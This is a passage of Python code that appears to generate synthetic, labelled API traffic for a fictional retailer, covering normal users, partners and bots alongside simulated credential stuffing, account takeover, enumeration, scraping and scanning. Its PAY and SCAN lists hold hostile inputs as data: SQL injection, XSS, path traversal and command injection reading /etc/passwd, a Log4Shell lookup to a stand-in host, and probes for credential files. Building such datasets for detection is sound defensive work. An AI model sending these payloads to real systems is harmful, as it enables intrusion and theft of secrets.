    if st.get('special'): t = special(u, a, t)
    u['t'] = t

# ---------------------------------------------------------------- staff, partners, bots
def staff_world():
    agents = []
    for i in range(ri(6, 10)):
        a = web_actor('agent-%d' % i, 'support-staff', user='staff-%d' % ri(100, 999)); a.key = 'support-console'; a.pre = False
        a.home = fixed(CC); a.wfh = rnd() < .25; a.mail = '%s.%s@marlowandfinch.example' % (ch(NAMES), ch(SURN)); agents.append(a)
        for d in range(W['days']):
            if rnd() < .2: continue
            t = T0 + d * DAY + (R.uniform(7, 13) - TZ) * 3600; end = t + 7.5 * 3600
            a.net = a.home() if a.wfh else ch(COMP); a.sess = hexs(20); t = login(a, t, a.mail)
            while t < end: t = ticket(a, t) + logn(900, .6)
    return agents
def ticket(a, t, cust=None):
    c = cust or (ch(U)['uid'] or 'c%d' % ri(1000000, 9999999)); o = oid(t - R.uniform(0, 30) * DAY)
    cs = [('GET', '/internal/support/search', 200, 'q=' + ch(['email', 'order', 'name']))] if not cust or rnd() < .3 else []
    t = a.scr(t, cs + [('GET', '/internal/support/customers/' + c, 200 if rnd() < .97 else 404), ('GET', '/internal/support/customers/%s/orders' % c, 200)], 30)
    if rnd() < .7: t = a.scr(t, [('GET', '/internal/support/orders/' + o, 200)], 40)
    if rnd() < .2: t = a.scr(t, [('POST', '/internal/support/orders/%s/refund' % o, 201 if rnd() < .9 else 403)], 20)
    if rnd() < .6: t = a.scr(t, [('POST', '/internal/support/customers/%s/notes' % c, 201)], 5)
    return t
def store_world():
    for s in R.sample(STORES, ri(4, 7)):
        nip = fixed(CC)(); staff = ['staff-%d' % ri(1000, 1999) for _ in range(ri(3, 6))]
        for k in range(ch([1, 2, 2])):
            a = app_actor('handheld-%s-%d' % (s, k), 'store-associate', 'android', 'genuine', ver='3.2.0', model=('TC26', 13)); a.key = 'store-android'; a.net = nip
            a.ua = 'MF-StoreMate/3.2.0 (TC26; Android 13) okhttp/4.12.0'
            for d in range(W['days']):
                t = T0 + d * DAY + (9 - TZ) * 3600 + rnd() * 1200; end = t + 10 * 3600; nxt = t
                while t < end:
                    if t >= nxt:
                        a.user = None; a.sess = hexs(20)
                        for _ in range(ch([0, 0, 0, 1])): a.ev(t, 'POST', '/v2/associate/login', 401); t += 5
                        a.ev(t, 'POST', '/v2/associate/login', 200); t += .5; a.user = ch(staff); nxt = t + R.uniform(1, 4) * 3600
                    if rnd() < .65:
                        for _ in range(ri(1, 4)): t = a.scr(t, [('GET', '/v2/associate/stock/' + sku(), 200 if rnd() < .96 else 404, 'store=' + s)], 12)
                    else:
                        t = a.scr(t, [('GET', '/v2/associate/pickups', 200, 'store=' + s), ('POST', '/v2/associate/pickups/%s/collect' % oid(t - DAY), 200)], 20)
                    t += logn(900, .7)
PART = {}
def partners():
    def P(name, ua, net, kind='partner-job'):
        a = A(name, kind, 'server', ua, name); a.net = net; PART[name] = a; return a
    a = P('partner-marketly', 'Marketly-Sync/2.7 (java/17.0.9)', N_('52.%d.%d.%d' % (ri(16, 59), ri(0, 255), ri(1, 254)), 16509, 'IE'))
    t = T0 + 13
    while t < T1: a.ev(t, 'GET', '/v2/feeds/orders', 200 if rnd() < .995 else 503, 'since=%d' % t); t += 300 + R.gauss(0, .6)
    a = P('partner-pricewise', 'Apache-HttpClient/5.3.1 (Java/21.0.2)', dcip(4)())
    for d in range(W['days']):
        t = T0 + d * DAY + (26 - TZ) % 24 * 3600 + ri(0, 300); bad = rnd() < .2
        for i in range(ri(250, 520)):
            a.ev(t, 'PUT', '/v2/feeds/prices/' + SKUS[(i * 7 + d) % len(SKUS)], 503 if rnd() < .01 else 404 if rnd() < .01 else 429 if bad and rnd() < .1 else 204); t += exp(6)
    a = P('partner-parcelhub', 'parcelhub-webhooks/1.0', None); pool = ['35.%d.%d.%d' % (ri(180, 200), ri(0, 255), x) for x in (3, 4, 77)]
    a.net = lambda: N_(ch(pool), 396982, 'BE')
    for _ in range(ri(70, 140) * W['days']):
        t = when([.2] * 6 + [3] * 13 + [1] * 5); a.ev(t, 'POST', '/v2/feeds/shipments/%s/status' % oid(t - 2 * DAY), 202 if rnd() < .98 else 404)
    a = P('partner-adfeedly', 'axios/1.6.8', dcip(1)())
    t = T0 + ri(0, 3000)
    while t < T1:
        u = t
        for c in range(ri(35, 60)): a.ev(u, 'GET', '/v2/feeds/products', 200, 'cursor=%s&limit=100' % hexs(8)); u += R.uniform(.5, 1.1)
        t += 6 * 3600 + R.gauss(0, 5)
    a = P('partner-stockbridge', 'python-requests/2.31.0', N_('195.%d.%d.20' % (ri(20, 90), ri(0, 255)), 8560, CC))
    t = T0 + ri(0, 3000); rot = T0 + R.uniform(.3, W['days']) * DAY
    while t < T1:
        u = t
        for c in range(ri(5, 22)): a.ev(u, 'PUT', '/v2/feeds/inventory/' + sku(), 401 if rot < u < rot + 2 * 3600 and W['days'] > 2 else 204); u += R.uniform(.08, .4)   # forgot to rotate its key
        t += 3600 + R.gauss(0, 20)
def bots():
    for n, (ip, asn, cc) in {'pingdom-1': ('178.255.152.2', 49981, 'NL'), 'pingdom-2': ('94.75.211.73', 16265, 'NL')}.items():
        a = A(n, 'monitor', 'server', 'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)'); a.net = N_(ip, asn, cc); t = T0 + ri(0, 200)
        while t < T1: a.ev(t, ch(['GET', 'GET', 'HEAD']) if n[-1] == '2' else 'GET', '/health', 200 if rnd() < .998 else 503); t += 300 + R.gauss(0, .4)
    a = web_actor('synthetic-check', 'monitor', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/148.0.0.0 Safari/537.36 DatadogSynthetics', user='c1000007'); a.net = dcip(0)(); t = T0 + ri(0, 900)
    while t < T1:
        a.sess = hexs(20); a.seen = set(); u = login(a, t, 'synthetic@marlowandfinch.example', 0)
        u = a.scr(u, [('GET', '/v2/me', 200), ('GET', '/v2/home', 200)], 0) + 1.5; u = a.scr(u, [('GET', '/v2/search', 200, 'q=dress')], 0) + 1.2; a.ev(u, 'GET', '/v2/products/' + SKUS[100], 200); a.ev(u + 1, 'POST', '/v2/auth/logout', 204); t += 1800
    for n, ua, p, asn, k in [('googlebot', 'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/148.0.7778.56 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', '66.249.%d' % ri(64, 79), 15169, 220),
                             ('bingbot', 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/136.0.0.0 Safari/537.36', '157.55.39', 8075, 90),
                             ('price-comparison', 'IdealoBot/1.2 (+https://www.idealo.example/bot)', '91.%d.%d' % (ri(190, 220), ri(0, 255)), 60032, 200)]:
        a = A(n, 'crawler', 'server', ua); ips = ['%s.%d' % (p, ri(1, 254)) for _ in range(9)]; a.net = lambda ips=ips, asn=asn: N_(ch(ips), asn, 'US' if asn != 60032 else 'DE')
        for _ in range(int(k * W['days'] * R.uniform(.7, 1.3))):
            t = T0 + rnd() * (T1 - T0)
            if rnd() < .03: a.ev(t, 'GET', '/robots.txt', 200)
            else: a.ev(t, 'GET', *(('/v2/products/' + (sku() if rnd() < .96 else 'P0%d' % ri(100000, 999999)), 200) if rnd() < .75 else ('/v2/categories/%s/products' % ch(CATS), 200, 'page=%d' % ri(1, 9))))
    # internet background noise is not the retailer's traffic, but QA is: debug builds that fail attestation, on the company network
    for i in range(ri(2, 4)):
        a = app_actor('qa-%d' % i, 'qa-tester', ch(['ios', 'android']), 'failed', ver='5.14.0', user='c100010%d' % i); a.net = ch(COMP)
        for _ in range(W['days'] * ri(1, 3)): visit(a, when([0] * 8 + [1] * 9 + [0] * 7), dict(mail='qa%d@marlowandfinch.example' % i, orders=[oid(T0)], signedout=rnd() < .5), ri(3, 10))

# ---------------------------------------------------------------- attacks
INST = {}
def S(lo, hi): return max(8, int(R.uniform(lo, hi) * W['scale'] * ch([.6, .8, .9, 1, 1.1, 1.6])))
def astart(maxdur=0, day=None):
    """attack start: few on day one, most later, attackers live in all time zones but like nights and evenings a bit"""
    if day is None: day = 0 if rnd() < .16 else ri(1, W['days'] - 1)
    t = T0 + day * DAY + R.uniform(1.5, 23) * 3600
    return max(T0 + 3600, min(t, T1 - maxdur - 600))
def inst(kind, tag):
    INST[kind] = INST.get(kind, 0) + 1; return '%s-%d-%s' % (kind, INST[kind], tag)
def bot(kind, iid, tool, who='bot', **kw):
    """a script with a naive tool"""
    a = A(iid + '/' + who, kind, 'other', TOOLS.get(tool, tool), inst=iid, **kw); return a
def fakeweb(kind, iid, who='bot', user=None):
    a = web_actor(iid + '/' + who, kind, user=user, inst=iid); a.sess = hexs(20); a.pre = rnd() < .4; return a
def fakeapp(kind, iid, mode, who='bot', plat=None, user=None):
    """imitates the app: mode none = pretends to be an old version, missing = new version without a token"""
    a = app_actor(iid + '/' + who, kind, plat or ch(['android', 'android', 'ios']), mode, inst=iid, user=user); a.att.flaky = .003
    if rnd() < .5: a.ja4 = 't13d1812h1_85036bcba153_375ca2c5e164'
    a.sess = hexs(20); return a
def newdev(a): a.dev = hexs(32).upper() if a.plat == 'ios' else hexs(16); a.sess = hexs(20); a.att.tok = None; a.att.exp = 0
SIGNED = [u for u in U if u['uid']]
def acct(): return 'c%d' % ri(9100000, 9999999)     # attackers' own accounts

def takeover(t, u, style, iid, kind='account-takeover', dev=None):
    """with right credentials (or a stolen session): look, drain, change, buy"""
    TAKEN[u['uid']] = min(t, TAKEN.get(u['uid'], 1e18)); mail = u['st']['mail']
    if style == 'web': a = fakeweb(kind, iid)
    elif style == 'cookie':
        b = u['a']; a = A(iid + '/bot', kind, b.plat, b.ua if rnd() < .5 else ua_web(), b.key, b.ver, b.dev, Att('missing' if b.att.mode != 'none' else 'none'), u['uid'], iid); a.sess = b.sess
    elif style == 'script': a = bot(kind, iid, 'requests', key='android-v4'); a.att = Att('none')
    else: a = dev or fakeapp(kind, iid, 'genuine'); a.sess = hexs(20)
    if not a.net or style != 'phone': a.net = resi(.8) if rnd() < .7 else ch(VPN)
    a.user = u['uid']
    if style != 'cookie':
        if style != 'script': a.scr(t - 4, [('GET', '/v2/config', 200)], 0)
        t = login(a, t, mail, ch([0, 0, 0, 1]))
    sl = 1 if style == 'script' else ri(4, 14)
    t = a.scr(t, [('GET', '/v2/me', 200), ('GET', '/v2/loyalty', 200), ('GET', '/v2/me/payment-methods', 200)], sl)
    for o in u['st']['orders'][:ri(0, 3)]: t = a.scr(t, [('GET', '/v2/orders/' + o, 200)], sl)
    if rnd() < .6: t = a.scr(t, [('PATCH', '/v2/me', 200)], sl)
    if rnd() < .6: t = a.scr(t, [('POST', '/v2/me/addresses', 201)], sl)
    if rnd() < .5: t = a.scr(t, [('POST', '/v2/loyalty/redeem', 200)], sl); gc(a, t, 200)
    if rnd() < .75:
        for _ in range(ri(1, 3)): t = a.scr(t, [('GET', '/v2/products/' + sku(), 200), ('POST', '/v2/cart/items', 201)], sl)
        t = checkout(a, t)
    # the owner finds out
    if rnd() < .6:
        v = u['a'] if not u.get('web') else u['web']; k = v.kind; r = t + logn(5 * 3600, .8)
        if r < T1 - 600:
            v.kind = 'victim-recovery'; v.net = u['st']['place'](r); v.sess = hexs(20); v.user = u['uid']; login(v, r, mail, 3); v.kind = k
    return t

def stuffing():
    K = 'credential-stuffing'
    def go(tag, n, gap, a, net, jit, sub, hitp, pre=None, style=None):
        iid = a.inst; t = astart(min(n * gap, 1.2 * DAY)); hits = []
        for i in range(n):
            nn = net(i)
            if nn: a.net = nn
            if pre: pre(a, t)
            known = rnd() < .04; u = ch(SIGNED) if known else None; m = u['st']['mail'] if u else email()
            r = rnd(); stt = 200 if r < hitp else 423 if r < hitp + .01 else 429 if gap < .6 and rnd() < .15 else 401
            if stt == 200: u = u or ch(SIGNED); m = u['st']['mail']; hits.append((t, u))
            a.ev(t, 'POST', '/v2/auth/login', stt, sub=m)
            if stt == 200 and rnd() < .6: a.user = u['uid']; a.ev(t + 1, 'GET', '/v2/me', 200); a.user = None; TAKEN.setdefault(u['uid'], t)
            t += exp(1 / gap) if jit else gap * R.uniform(.9, 1.1)
            if t > T1: break
        for ht, u in hits[:3]:
            takeover(ht + logn(3 * 3600, 1), u, style or ch(['web', 'script', 'phone', 'web']), inst('account-takeover', 'after-stuffing'))
    i = inst(K, 'fast-one-address'); b = bot(K, i, ch(['requests', 'go', 'aiohttp'])); d = dcip()(); go('', S(350, 650), R.uniform(.3, 1.2), b, lambda k: d, False, 0, .006)
    i = inst(K, 'residential-app'); b = fakeapp(K, i, ch(['none', 'missing'])); go('', S(250, 450), R.uniform(5, 18), b, lambda k: resi(.6), True, 0, .008, pre=lambda a, t: (newdev(a), a.ev(t - .6, 'GET', '/v2/config', 200) if rnd() < .8 else 0))
    i = inst(K, 'slow-browser'); b = fakeweb(K, i); px = [resi(.9) for _ in range(ri(8, 25))]
    def pre(a, t):
        if rnd() < .5: a.sess = hexs(20); a.ua = ua_web(); a.seen = set()
        a.ev(t - 5, 'GET', '/v2/config', 200)
    go('', S(90, 180), R.uniform(300, 900), b, lambda k: ch(px), True, 0, .015, pre=pre)
def spraying():
    K = 'password-spraying'
    for tag, n, gap, nip in [('staff-slow', S(50, 100), R.uniform(400, 1100), 6), ('customers-cloud', S(150, 280), R.uniform(6, 25), 12)]:
        i = inst(K, tag); a = fakeweb(K, i) if rnd() < .5 else bot(K, i, 'okhttp', key='web-spa'); ips = [dcip()() for _ in range(nip)]; t = astart(n * gap)
        subs = ['%s.%s@marlowandfinch.example' % (ch(NAMES), ch(SURN)) if 'staff' in tag else email() for _ in range(n)]
        for k in range(n): a.net = ips[k * nip // n if rnd() < .7 else ri(0, nip - 1)]; a.ev(t, 'POST', '/v2/auth/login', 401 if rnd() < .98 else 423, sub=subs[k]); t += exp(1 / gap)
def ato():
    for s in R.sample(['web', 'cookie', 'script', 'phone', 'cookie', 'web'], ri(3, 5)): takeover(astart(3600), ch(SIGNED), s, inst('account-takeover', s))
    # one real phone, many stolen accounts
    i = inst('account-takeover', 'one-phone-many-accounts'); d = fakeapp('account-takeover', i, 'genuine'); m = mobile(CC); t = astart(6 * 3600)
    for _ in range(ri(4, 8)): d.net = m(); t = takeover(t, ch(SIGNED), 'phone', i, dev=d) + logn(900, .6)
def bola():
    K = 'object-walking'
    def st(): return (200 if rnd() < .85 else 404) if W['bola_open'] else (403 if rnd() < .85 else 404)
    i = inst(K, 'fast-orders'); u = acct(); a = bot(K, i, ch(['requests', 'axios', 'postman']), key='web-spa', user=u, sess=hexs(20)); a.net = ch([resi(1), dcip()()]); n = S(180, 380); t = astart(n); o = OBASE - ri(2000, 40000)
    for k in range(n): a.ev(t, 'GET', '/v2/orders/%d' % (o + k), st()); t += R.uniform(.2, .9)
    i = inst(K, 'slow-orders-app'); a = fakeapp(K, i, ch(['none', 'genuine']), user=acct()); a.net = mobile(CC)(); n = S(80, 160); t = astart(n * 230); o = OBASE - ri(2000, 40000)
    t = visit(a, t, dict(mail=email(), orders=[str(o)]), 3)
    for k in range(n):
        o += ri(1, 40) * ch([1, 1, -1]); a.ev(t, 'GET', '/v2/orders/%d' % o, st()); t += logn(170, .7)
        if rnd() < .12: t = product(a, t)
    i = inst(K, 'invoices-three-accounts'); n = S(90, 180); t = astart(n * 20); o = OBASE - ri(2000, 40000)
    bs = [fakeweb(K, i, 'bot%d' % j, user=acct()) for j in range(3)]
    for b in bs: b.net = resi(.8)
    for k in range(n): ch(bs).ev(t, 'GET', '/v2/orders/%d/invoice' % (o + k * 3), st()); t += exp(1 / 16)
    if rnd() < .6:
        i = inst(K, 'addresses'); a = bot(K, i, 'axios', key='android-v4', user=acct()); a.net = resi(); n = S(60, 120); t = astart(n * 5); o = ri(200000, 900000)
        for k in range(n): a.ev(t, ch(['GET', 'GET', 'GET', 'PATCH']), '/v2/me/addresses/%d' % (o + k), 403 if rnd() < .4 else 404); t += exp(.3)
FUNCS = ['/internal/support/search', '/internal/support/customers/%s', '/internal/support/orders/%s', '/internal/support/orders/%s/refund', '/v2/admin', '/v2/admin/users', '/v2/admin/orders', '/v2/users', '/v2/users/%s', '/v2/users/%s/roles',
         '/v2/associate/pickups', '/v2/associate/stock/P1200001', '/v2/feeds/orders', '/v2/feeds/products', '/v2/feeds/prices/P1200001', '/internal/config', '/internal/metrics', '/v1/admin/users', '/v1/orders', '/v2/coupons', '/v2/coupons/generate', '/v2/giftcards', '/v2/giftcards/issue',
         '/v2/loyalty/adjust', '/v2/loyalty/credit', '/v2/export/customers', '/v2/reports/sales', '/v2/config/flags', '/v2/orders/%s/status', '/v2/orders/%s/refund', '/v2/products/P1200001/price', '/v2/debug', '/v2/me/role', '/v2/staff', '/v2/audit']
def bfla():
    K = 'function-probing'
    for tag, n, gap in [('fast-script', S(90, 200), .5), ('manual-browser', S(40, 70), 40), ('slow-app', S(25, 50), 800)]:
        i = inst(K, tag); u = acct()
        a = bot(K, i, ch(['ffuf', 'go', 'postman']), key='web-spa', user=u) if gap < 1 else fakeweb(K, i, user=u) if gap < 100 else fakeapp(K, i, ch(['none', 'missing', 'failed']), user=u)
        a.net = resi(.7) if gap > 1 else dcip()(); t = astart(n * gap * 1.2)
        if gap > 1: t = visit(a, t, dict(mail=email(), orders=[oid(T0)]), ri(2, 5))
        for k in range(n):
            p = FUNCS[k % len(FUNCS)] if rnd() < .7 else ch(FUNCS); p = p % ri(100000, 9999999) if '%s' in p else p
            real = p.startswith('/internal/sup') or '/feeds' in p or '/associate' in p
            a.ev(t, ch(['GET', 'GET', 'GET', 'POST', 'PUT', 'DELETE']) if rnd() < .6 else 'GET', p, ch([403, 403, 401, 405]) if real else ch([404, 404, 404, 403, 405])); t += logn(gap, .6)
            if gap > 1 and rnd() < .15: t = product(a, t)
def enum():
    K = 'gift-card-enumeration'
    def one(a, t, hit=.012): gc(a, t, 200 if rnd() < hit else 404 if rnd() < .9 else ch([422, 429]))
    i = inst(K, 'fast'); a = bot(K, i, ch(['requests', 'go']), key='web-spa'); a.net = dcip()(); n = S(200, 420); t = astart(n)
    for _ in range(n): one(a, t); t += R.uniform(.15, .8)
    i = inst(K, 'residential'); n = S(180, 350); t = astart(n * 20); a = fakeweb(K, i)
    for k in range(n):
        if k % 2 == 0: a.net = resi(.5); a.ua = ua_web(); a.sess = hexs(20); a.seen = set()
        if rnd() < .5: a.ev(t - 1, 'GET', '/v2/config', 200)
        one(a, t); t += exp(1 / 18)
    i = inst(K, 'slow-app'); n = S(60, 130); t = astart(n * 700); a = fakeapp(K, i, ch(['missing', 'failed', 'none']), user=acct()); m = mobile(CC)
    for k in range(n):
        if k % 9 == 0: a.net = m(); a.scr(t - 8, [('GET', '/v2/config', 200), ('GET', '/v2/home', 200), ('GET', '/v2/me', 200)], 0)
        one(a, t); t += logn(560, .7)
    K = 'coupon-enumeration'
    for tag, n, gap in [('fast-session', S(120, 260), 1.0), ('slow-many-sessions', S(90, 170), 45)]:
        i = inst(K, tag); t = astart(n * gap * 1.3)
        a = bot(K, i, 'axios', key='web-spa', sess=hexs(20)) if gap < 5 else fakeweb(K, i); a.net = resi(.8)
        a.ev(t - 3, 'POST', '/v2/cart/items', 201)
        for k in range(n):
            if gap > 5 and k % 7 == 0: a.net = resi(.8); a.sess = hexs(20); a.ev(t - 5, 'GET', '/v2/config', 200); a.ev(t - 3, 'POST', '/v2/cart/items', 201)
            a.ev(t, 'POST', '/v2/cart/coupons', 200 if rnd() < .01 else 422); t += logn(gap, .5)
    K = 'otp-guessing'
    for tag, n, gap, nip in [('one-account', S(120, 260), 1.2, 1), ('spread-slow', S(70, 140), 260, 40)]:
        i = inst(K, tag); t = astart(n * gap * 1.2); u = ch(SIGNED); a = fakeapp(K, i, ch(['none', 'missing'])) if rnd() < .5 else bot(K, i, 'aiohttp', key='android-v4'); ips = [resi(.7) for _ in range(nip)]
        for k in range(n):
            a.net = ch(ips)
            if k % 5 == 0: a.ev(t - 2, 'POST', '/v2/auth/otp/request', 202, sub=u['st']['mail'])
            a.ev(t, 'POST', '/v2/auth/otp/verify', 401 if rnd() < .93 else 429, sub=u['st']['mail']); t += logn(gap, .4)
            if nip > 1 and k % 12 == 11: u = ch(SIGNED)
    K = 'sms-pumping'
    for tag, n, gap in [('burst', S(100, 220), 2.5), ('slow', S(60, 110), 160)]:
        i = inst(K, tag); t = astart(n * gap * 1.2); a = bot(K, i, 'okhttp', key='android-v4', ver='4.21.1') if gap < 5 else fakeapp(K, i, 'none')
        for k in range(n):
            if k % 4 == 0: a.net = resi(.2)
            if gap > 5: newdev(a); a.ev(t - 2, 'GET', '/v2/config', 200)
            a.ev(t, 'POST', '/v2/auth/otp/request', 202 if rnd() < .9 else 429, sub='+%d%d' % (ch([92, 880, 62, 7, 216]), ri(300000000, 999999999))); t += logn(gap, .5)
def signups():
    K = 'fake-signup'
    def one(a, t, fast):
        m = email(); z = .4 if fast else 12
        a.user = None
        if not fast: t = a.scr(t, [('GET', '/v2/config', 200), ('GET', '/v2/home', 200)], 6)
        a.ev(t, 'POST', '/v2/auth/register', 201 if rnd() < .88 else ch([409, 422, 429]), sub=m); t += logn(z, .3)
        a.user = acct(); t = a.scr(t, [('GET', '/v2/me', 200)], z)
        if rnd() < .7: t = a.scr(t, [('POST', '/v2/loyalty/welcome-voucher', 201)], z)
        return t
    i = inst(K, 'burst-vps'); a = bot(K, i, ch(['requests', 'go']), key='web-spa'); ips = [dcip()() for _ in range(3)]; t = astart(3000)
    for _ in range(S(50, 100)): a.net = ch(ips); t = one(a, t, True) + exp(1 / 4)
    i = inst(K, 'residential'); n = S(35, 70); t = astart(n * 400)
    for k in range(n):
        a = fakeweb(K, i, 'bot') if rnd() < .5 else fakeapp(K, i, 'none'); a.net = resi(.8); one(a, t, False); t += logn(330, .7)
    i = inst(K, 'emulators'); n = S(25, 45); t = astart(n * 150); ip = fixed(CC)()
    for k in range(n): a = fakeapp(K, i, 'failed', plat='android'); a.net = ip; one(a, t, False); t += logn(130, .5)
def scalping():
    K = 'scalping'; base = FLASH_T
    for tag in ['fast-few-addresses', 'residential-accounts', 'app-imitation']:
        i = inst(K, tag); s = SALE_SKU if base else DROP_SKU; p = '/v2/products/' + s
        t = (base if base else astart(2 * 3600)) - R.uniform(60, 1000); end = t + (R.uniform(1500, 2400) if tag[0] != 'f' else R.uniform(500, 900) + (900 if base else 0)); nb = {'f': 2, 'r': ri(6, 10), 'a': ri(4, 7)}[tag[0]]; ipd = [dcip()() for _ in range(2)]
        for j in range(nb):
            a = bot(K, i, ch(['go', 'aiohttp']), 'bot%d' % j, key='web-spa', user=acct(), sess=hexs(20)) if tag[0] == 'f' else fakeweb(K, i, 'bot%d' % j, user=acct()) if tag[0] == 'r' else fakeapp(K, i, ch(['none', 'missing', 'none']), 'bot%d' % j, user=acct())
            a.net = ch(ipd) if tag[0] == 'f' else resi(.9); u = t + rnd() * 60; gap = {'f': 4, 'r': 75, 'a': 60}[tag[0]]
            if tag[0] != 'f': u = a.scr(u, [('GET', '/v2/config', 200), ('GET', '/v2/cart', 200), ('GET', '/v2/me', 200)], 3)
            while u < end: a.ev(u, 'GET', p + '/stock', 200 if rnd() < .95 else 429); u += gap * R.uniform(.8, 1.25)
            for _ in range(ri(1, 3)):
                u = a.scr(u, [('POST', '/v2/cart/items', ch([201, 201, 409]))], 0) + R.uniform(.2, 2); c = hexs(12)
                u = a.scr(u, [('POST', '/v2/checkout', 201), ('PUT', '/v2/checkout/%s/shipping' % c, 200), ('POST', '/v2/checkout/%s/payment' % c, 200), ('POST', '/v2/orders', ch([201, 201, 409]))], 2)
def scraping():
    K = 'scraping'
    i = inst(K, 'fast-datacentre'); a = bot(K, i, ch(['scrapy', 'requests', 'headless', 'go']), key='web-spa' if rnd() < .6 else None); a.net = dcip()(); n = S(300, 600); t = astart(n * 2); s0 = ri(0, 2000); g = R.uniform(.4, 1.8)
    for k in range(n):
        if k % 24 == 0: a.ev(t, 'GET', '/v2/categories/%s/products' % CATS[k // 24 % len(CATS)], 200, 'page=%d' % (1 + k // 480)); t += g
        a.ev(t, 'GET', '/v2/products/' + SKUS[(s0 + k) % len(SKUS)], 200 if rnd() < .97 else ch([404, 429])); t += g * R.uniform(.7, 1.4)
    i = inst(K, 'rotating-residential'); n = S(280, 500); t = astart(n * 25); a = fakeweb(K, i); order = R.sample(SKUS, n); a.pre = False
    for k in range(n):
        if k % 2 == 0 or rnd() < .4: a.net = resi(.5); a.ua = ua_web(); a.sess = hexs(20) if rnd() < .6 else None
        a.ev(t, 'GET', '/v2/products/' + order[k] + ('/stock' if rnd() < .3 else ''), 200); t += exp(1 / 22)
    i = inst(K, 'slow-one-browser'); n = S(130, 260); t = astart(n * 260); a = fakeweb(K, i); a.net = ch([resi(1), ch(VPN)])
    for k in range(n): a.ev(t, 'GET', '/v2/products/' + SKUS[(k * 3 + s0) % len(SKUS)], 200); t += logn(230, .4)
    i = inst(K, 'app-imitation-proxies'); n = S(18, 34); t = astart(n * 300)
    for k in range(n):                                  # short plausible visits of pretended installs
        a = fakeapp(K, i, 'none' if rnd() < .8 else 'missing', 'bot'); a.net = resi(.8); u = a.scr(t, [('GET', '/v2/config', 200), ('GET', '/v2/home', 200)], 2)
        for _ in range(ri(3, 6)): u = product(a, u, think=3)
        t += logn(280, .6)
    K = 'search-flood'
    for tag, n, gap, nip in [('burst', S(200, 420), .25, 1), ('residential', S(150, 260), 8, 150), ('suggest-harvest', S(150, 260), 3, 3)]:
        i = inst(K, tag); t = astart(n * gap * 1.2); a = bot(K, i, ch(['go', 'aiohttp', 'curl']), key='web-spa') if nip < 5 else fakeweb(K, i); a.pre = False; ips = [resi(.5) if nip > 1 else dcip()() for _ in range(nip)]
        for k in range(n):
            a.net = ch(ips)
            if nip > 5: a.ua = ua_web(); a.sess = hexs(20)
            if tag[0] == 's': a.ev(t, 'GET', '/v2/search/suggest', 200, 'q=' + chr(97 + k // 26 % 26) + chr(97 + k % 26))
            else: a.ev(t, 'GET', '/v2/search', ch([200, 200, 200, 200, 503, 429]) if gap < 1 else 200, 'q=%s&page=%d&size=%d' % (hexs(ri(4, 9)), ri(1, 80), ch([100, 200, 500])))
            t += exp(1 / gap)
SCAN = '/.env /.git/config /.git/HEAD /actuator /actuator/env /actuator/heapdump /swagger.json /swagger-ui.html /v2/api-docs /openapi.json /graphql /api/v1/users /wp-login.php /wp-admin/ /phpinfo.php /server-status /config.json /.aws/credentials /backup.zip /db.sql /admin /console /debug/pprof/ /metrics /jenkins/login /solr/admin/info/system /manager/html /.DS_Store /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /cgi-bin/luci /owa/ /api/swagger.yaml /v1/ /v3/ /api/ /health/../admin /.well-known/security.txt /robots.txt /env /trace /jolokia/list /hudson /telescope/requests /_ignition/health-check /remote/login /geoserver/web/ /api/jsonws /druid/index.html /nacos/v1/auth/users /.vscode/sftp.json /id_rsa /docker-compose.yml /package.json /phpmyadmin/ /adminer.php /_cat/indices'.split()
PAY = ["'", "%27%20OR%201=1--", "1%20AND%20SLEEP(5)", "%3Cscript%3Ealert(1)%3C/script%3E", "..%2f..%2f..%2fetc%2fpasswd", "%24%7Bjndi:ldap://x.oast.example/a%7D", "%7B%7B7*7%7D%7D", "%00", "1%20UNION%20SELECT%20NULL,NULL--", "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "%3Bcat%20/etc/passwd", "admin'--", "[$ne]=1"]
def scanners():
    K = 'scanner'
    for tag, n, gap, tool in [('nuclei-fast', S(150, 320), .12, 'nuclei'), ('ffuf', S(100, 240), .08, 'ffuf'), ('slow-cloud', S(35, 60), 500, 'go')]:
        i = inst(K, tag); t = astart(n * gap * 1.2); a = bot(K, i, tool); d = dcip()(); order = R.sample(SCAN, len(SCAN))
        if tag == 'nuclei-fast' and rnd() < .5: a.ua = ua_web()
        for k in range(n):
            a.net = dcip()() if gap > 9 and rnd() < .3 else (a.net if gap > 9 and a.net else d)
            p = order[k % len(order)] if k < len(order) else '/' + ch(['v2/', 'api/', 'internal/', '']) + ch(['backup', 'test', 'old', 'dev', 'users', 'login', 'tmp', 'upload', 'files', 'logs', 'private', 'shop', 'export', 'sql', 'status']) + ch(['', '.php', '.bak', '.json', '/', '.zip'])
            a.ev(t, 'GET' if rnd() < .93 else ch(['POST', 'HEAD', 'OPTIONS', 'TRACE', 'PROPFIND']), p, 200 if p == '/robots.txt' else ch([404] * 12 + [403, 403, 400, 405])); t += exp(1 / gap)
    K = 'payload-attack'
    for tag, n, gap, tool in [('sqlmap', S(90, 200), .5, 'sqlmap'), ('manual-slow', S(35, 60), 45, None)]:
        i = inst(K, tag); t = astart(n * gap * 1.2); a = bot(K, i, tool, key='web-spa') if tool else fakeweb(K, i, user=acct()); a.net = dcip()() if tool else resi(.8)
        if tool and rnd() < .4: a.ua = ua_web()
        for k in range(n):
            if not tool and rnd() < .3: t = product(a, t)
            w = ch(PAY); p, q = ch([('/v2/products/%s%s' % (sku(), w), None), ('/v2/search', 'q=' + w), ('/v2/categories/%s/products' % w, 'page=1'), ('/v2/categories/shoes/products', 'sort=' + w), ('/v2/stores/101' + w, None)])
            a.ev(t, 'GET', p, (ch([200, 200, 400, 500]) if q else ch([404, 404, 400, 500])), q); t += logn(gap, .5)
def leaked():
    K = 'leaked-api-key'
    for tag, pn, n, gap in [('export-fast', 'partner-adfeedly', S(120, 260), .9), ('orders-slow', 'partner-marketly', S(50, 90), 1100), ('probing', 'partner-stockbridge', S(60, 110), 12)]:
